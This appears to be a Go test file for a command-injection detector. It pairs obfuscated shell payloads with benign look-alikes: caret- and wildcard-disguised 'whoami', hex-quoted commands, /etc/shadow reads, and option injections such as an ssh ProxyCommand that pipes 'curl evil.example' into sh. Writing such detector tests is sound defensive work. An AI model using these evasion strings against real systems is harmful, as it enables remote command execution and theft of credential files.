package validate

import "testing"

func TestCmdIObfuscatedNames(t *testing.T) {
	checkCmdI(t, []cmdiCase{
		// cmd.exe carets inside a command name.
		{"report.pdf & t^y^p^e C:\\boot.ini", true},
		{"| who^ami", true},
		{"x^2 + y^2 = r^2, and a^b means a to the power b", false},
		{"the regex ^[a-z]+$ and ^\\d{3}$ both fail", false},
		// Wildcard paths.
		{"|/???/b??/w?oami", true},
		{"/usr/b?n/i? ", true},
		{"file.txt;/bin/l? -la /etc", true},
		{"ca? /etc/pa??wd", false}, // no command a shell reads
		{"cat /etc/sh?dow", true},
		{"ls /usr/lib/*.so | wc -l shows 300 libraries", false},
		{"GET /api/v1/items?page=2 returns 404", false},
		// ANSI-C quoting.
		{"a;$'\\x77\\x68\\x6f\\x61\\x6d\\x69'", true},
		{"$'\\151\\144'", true},
		{"echo $'line1\\nline2' prints two lines?", false},
		{"my script fails with $'\\r': command not found", false},
		// A leading line break.
		{"\nwhoami", true},
		{"\r\nid -u", true},
		{"\n\tcat /etc/passwd", true},
		{"\nls -la shows nothing in the folder", false},
		{"\nhostname of the box is web3, can you check it", false},
	})
}

func TestGlobbedPath(t *testing.T) {
	for _, tc := range []struct {
		p    string
		want bool
	}{
		{"/???/c?t", true}, {"/bin/c?t", true}, {"/etc/p?sswd", true}, {"/???/", false},
		{"/home/u?er", false}, {"/usr/bin/*", false}, {"/api/x?id=1", false}, {"/e?c/x", false},
	} {
		if got := globbedPath(tc.p); got != tc.want {
			t.Errorf("globbedPath(%q) = %v, want %v", tc.p, got, tc.want)
		}
	}
}

func TestCmdIOptionCommand(t *testing.T) {
	checkCmdI(t, []cmdiCase{
		{"clone it from --upload-pack='id>/tmp/x' git://host/r", true},
		{"my ssh host is -oProxyCommand=\"curl evil.example|sh\" box", true},
		{"tar --checkpoint=1 --checkpoint-action=exec=sh shell.sh", true},
		{"what does --upload-pack=git-upload-pack do when I set it explicitly?", false},
	})
}
